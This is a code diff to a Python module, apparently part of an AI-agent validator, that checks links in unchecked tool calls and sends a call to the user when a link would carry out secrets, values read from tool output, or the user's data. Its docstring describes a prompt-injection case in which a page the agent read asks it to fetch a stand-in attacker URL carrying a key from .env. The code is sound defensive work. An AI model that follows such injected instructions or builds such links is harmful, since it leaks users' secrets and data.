@@ -1,11 +1,20 @@
-"""Egress through an exempt tool: the user's words leaving in a link to a host the user never named.
+"""Egress through an exempt tool: data leaving in a link the agent built.
 
-An exempt tool (a web search, a page fetch) runs with no check, so it is a free channel out: a page
-the agent read can ask it to fetch ``https://collect.evil.example/?q=<the user's figures>``. Before
-an exempt call runs, each link in its arguments is looked at: when its host stands nowhere in the
-user's own words and its path or query carries a word of the user's that no tool output holds (their
-data, not something a page linked to), the call goes to the user. Anything else runs as before:
-following a link a search returned, or fetching a page the user named, is not egress.
+Exempt means exempt from authorization, not from egress. An exempt tool (a web search, a page fetch, a file
+read) runs with no check, so it is a free channel out: a page the agent read can ask it to fetch
+``https://collect.evil.example/?k=<a key from .env>``. Before an exempt call runs, each link in its arguments is
+looked at, and the call goes to the user when the link carries, in its path or query:
+
+- a **secret** (:mod:`validator.gate.secrets`: a key's or a token's issued shape, an assigned password, a
+  string the user declared a secret), whatever its host, unless the whole link stands verbatim in the user's
+  own words;
+- a **value from a tool output** (a word of four letters or more, a number of four characters or more that
+  stands in a message that is not the user's, and not in the user's words), whatever its host: a host the
+  user named once is no licence for data the agent read;
+- a **word of the user's** that no tool output holds (their data), to a host the user never named.
+
+What runs as before: the exact link the user gave, a link a tool output gave followed as given (a search
+result, a page's link), and a link built from the user's own words to a host they named.
 """
 
 from __future__ import annotations
@@ -17,10 +26,12 @@ from typing import Any
 from urllib.parse import unquote_plus, urlsplit
 
 from validator.gate.entities import extract_entities
-from validator.gate.index import other_index, user_index
+from validator.gate.index import is_users, other_index, user_index
 from validator.gate.paths import string_leaves
+from validator.gate.secrets import secrets_in, users_secrets
 from validator.inputs.transcript import Transcript
 from validator.language.rules import ALL_ON, Rule, Rules
+from validator.verdict.findings import EgressKind
 
 __all__ = ["Egress", "egress"]
 
@@ -30,35 +41,59 @@ _WORD = re.compile(r"[^\W_]{4,}|\d[\d.,]{2,}\d")
 
 @dataclass(frozen=True, slots=True)
 class Egress:
-    """A link that would carry the user's words to a host they never named."""
+    """A link that would carry data out: what it carries (``carried``, a secret shown masked) and of which kind."""
 
     path: str
     host: str
     carried: tuple[str, ...]
+    kind: EgressKind = "user_words"
 
 
 def egress(
     transcript: Transcript, args: Mapping[str, Any], user_id: str | None = None, rules: Rules = ALL_ON
 ) -> Egress | None:
-    """The first link in ``args`` that carries the user's words to a host the user never named, if any."""
+    """The first link in ``args`` that would carry data out (see the module docstring), if any."""
     if not rules.on(Rule.EGRESS):
         return None
     users, others = user_index(transcript, user_id, rules), other_index(transcript, user_id, rules)
+    declared = users_secrets(transcript, user_id)
 
     def _user_has(text: str) -> bool:
         return bool(users.containing(text.casefold(), 1))
 
+    def _outside_has(text: str) -> bool:
+        return bool(others.containing(text.casefold(), 1))
+
+    def _user_gave(link: str) -> bool:  # pasted or typed: a link in the user's message is one they gave
+        folded = link.casefold()
+        return any(folded in m.content.casefold() for m in transcript.messages if is_users(m, user_id))
+
     for path, text in string_leaves(dict(args), ""):
         for entity in extract_entities(text):
-            if entity.kind not in ("url", "domain") or _user_has(entity.key):
-                continue
+            if entity.kind not in ("url", "domain") or _user_gave(entity.value):
+                continue  # the exact link the user gave
             raw = entity.value if "://" in entity.value else "//" + entity.value
             try:
                 parts = urlsplit(raw)
             except ValueError:
                 continue
+            secrets = tuple(secrets_in(unquote_plus(entity.value), declared))
+            if secrets:
+                return Egress(path, entity.key, tuple(mask(s) for s in secrets), "secret")
+            if _outside_has(entity.value):
+                continue  # a link an output gave, followed as given
             words = set(_WORD.findall(unquote_plus(f"{parts.path} {parts.query}")))
-            carried = tuple(sorted(w for w in words if _user_has(w) and not others.containing(w.casefold(), 1)))
+            outside = tuple(sorted(w for w in words if _outside_has(w) and not _user_has(w)))
+            if outside:
+                return Egress(path, entity.key, outside, "outside_values")
+            if _user_has(entity.key):
+                continue  # the user's words to a host they named
+            carried = tuple(sorted(w for w in words if _user_has(w) and not _outside_has(w)))
             if carried:
-                return Egress(path, entity.key, carried)
+                return Egress(path, entity.key, carried, "user_words")
     return None
+
+
+def mask(secret: str) -> str:
+    """A secret as a refusal may show it: its first four characters and its length, never the rest."""
+    return f"{secret[:4]}… ({len(secret)} characters)"
